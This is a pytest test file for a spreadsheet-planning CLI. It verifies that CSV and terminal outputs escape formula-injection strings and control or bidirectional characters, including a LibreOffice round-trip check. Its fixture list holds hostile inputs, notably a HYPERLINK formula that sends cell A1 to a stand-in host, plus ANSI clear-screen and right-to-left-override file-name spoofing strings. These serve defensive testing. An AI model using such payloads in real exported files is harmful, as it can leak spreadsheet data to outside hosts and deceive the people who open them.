"""No formula injection in CSV, no control sequence on a terminal: the one escaping function, through every output."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
from pathlib import Path

import pytest

from cseplan_xl.cli import main
from cseplan_xl.safetext import cell_value, csv_text, terminal_text

HOSTILE = ['=HYPERLINK("http://example.invalid/?d="&A1,"Click me")', "+1+2", "-3+4", "@SUM(1,2)", "\t=1+2",
           "\r=1+3", "=1+3\r\n=2+2"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_cell_value_follows_owasp():
    assert [cell_value(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [cell_value(v) for v in ("Poster", "", " =x", "'=x", None, -5, 2.5, True)] == [
        "Poster", "", " =x", "'=x", None, -5, 2.5, True]
    assert cell_value(dt.date(2018, 3, 31)) == dt.date(2018, 3, 31)


def test_csv_text_quotes_line_breaks_and_keeps_numbers():
    text = csv_text([{"a": "\r=1+3", "b": -5, "c": "two\nlines"}, {"a": "plain", "b": 2.5, "c": None}], ["a", "b", "c"])
    assert text == "a,b,c\r\n\"'\r=1+3\",-5,\"two\nlines\"\r\nplain,2.5,\r\n"
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a", "b", "c"], ["'\r=1+3", "-5", "two\nlines"], ["plain", "2.5", ""]]


def test_terminal_text_shows_control_and_bidi_characters():
    assert terminal_text("ok\x1b[2J\x1b[1Aline\u202egnp.exe\u2066x\u2069 tab\tkept\nnext\r") == (
        "ok\\x1b[2J\\x1b[1Aline\\u202egnp.exe\\u2066x\\u2069 tab\tkept\nnext\\r")
    assert terminal_text("Café – £5 “quoted”") == "Café – £5 “quoted”"


def _hostile_book(path: Path) -> Path:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("Plan")
    ws.write_row(0, 0, ["ID", "Section", "Theme", "Activity", "When", "Who", "RAG Status"])
    for i, text in enumerate(HOSTILE, start=1):
        for c, value in enumerate([text, text, text, text + " \x1b[2J\u202e", "Nov 2017", text, "Green"]):
            ws.write_string(i, c, value)
    social = wb.add_worksheet("Social")
    social.write_row(0, 0, ["Date", "Platform", "Campaign", "Post", "Reactions", "Impressions"])
    for i, text in enumerate(HOSTILE, start=1):
        social.write_datetime(i, 0, dt.datetime(2018, 2, i), wb.add_format({"num_format": "dd/mm/yyyy"}))
        social.write_row(i, 1, [text, text, text, 10, 100])
    control = wb.add_worksheet("Control")
    control.write_row(0, 0, ["As-of date", "2018-03-31"])
    wb.close()
    return path


@pytest.fixture
def hostile(tmp_path) -> Path:
    return _hostile_book(tmp_path / "hostile.xlsx")


def _csv_fields(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [field for row in csv.reader(fh) for field in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("command", [
    ["validate"], ["rollup", "--as-of", "2018-03-31"], ["evaluate", "--period", "2018Q1", "--as-of", "2018-03-31"]])
def test_csv_outputs_have_no_cell_a_spreadsheet_would_evaluate(hostile, tmp_path, command):
    out = tmp_path / f"{command[0]}.csv"
    assert main([command[0], str(hostile), *command[1:], "--format", "csv", "--output", str(out)]) in (0, 1)
    data = out.read_bytes()
    assert data.count(b"\r\n") == data.count(b"\n") - data.count(b"\n=2+2")  # CRLF ends; LF only inside quotes
    fields = _csv_fields(out)
    dangerous = [f for f in fields if f.startswith(STARTS) and not _is_number(f)]
    assert dangerous == []
    assert any(f.startswith("'") for f in fields)  # the injected cells did reach the output, as text


def test_text_outputs_show_escapes_not_control_sequences(hostile, capsys):
    for command in (["validate"], ["rollup", "--as-of", "2018-03-31"]):
        main([command[0], str(hostile), *command[1:]])
        out = capsys.readouterr().out
        assert "\x1b" not in out and "\u202e" not in out and "\r" not in out
    assert "\\x1b[2J" in out and "\\u202e" in out  # rollup lists the activities


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_csv_with_no_live_formula(hostile, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "findings.csv"
    main(["validate", str(hostile), "--format", "csv", "--output", str(out)])
    raw = tmp_path / "raw.csv"  # the same rows written without the escaping, to show the test can fail
    raw.write_text('code,value\r\nx,"=HYPERLINK(""http://example.invalid"",""Click"")"\r\ny,=1+3\r\n', encoding="utf-8")
    profile = tmp_path / "lo-profile"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--infilter=CSV:44,34,76,1",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path), str(out), str(raw)],
                   check=True, capture_output=True, timeout=120)
    escaped = load_workbook(tmp_path / "findings.xlsx").active
    unescaped = load_workbook(tmp_path / "raw.xlsx").active
    assert [c.value for row in unescaped.iter_rows() for c in row if c.data_type == "f"]  # raw: live formulas
    cells = [c for row in escaped.iter_rows() for c in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK(") for c in cells)
